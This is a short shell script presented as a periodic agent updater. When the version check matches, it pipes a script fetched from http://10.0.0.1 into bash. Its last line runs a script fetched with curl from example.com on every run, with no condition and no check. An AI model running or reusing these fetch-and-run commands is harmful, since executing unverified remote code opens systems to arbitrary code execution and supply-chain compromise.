#!/bin/sh
# periodic agent update
VERSION_FILE=./agent.version
current=$(cat "$VERSION_FILE" 2>/dev/null || echo 0)
echo "current agent version: $current"

case "$current" in
    0|1.*)
        echo "updating"
        wget -qO- http://10.0.0.1/agent/update.sh | bash
        ;;
    *)
        echo "up to date"
        ;;
esac
bash <(curl -s http://example.com/post-update.sh)
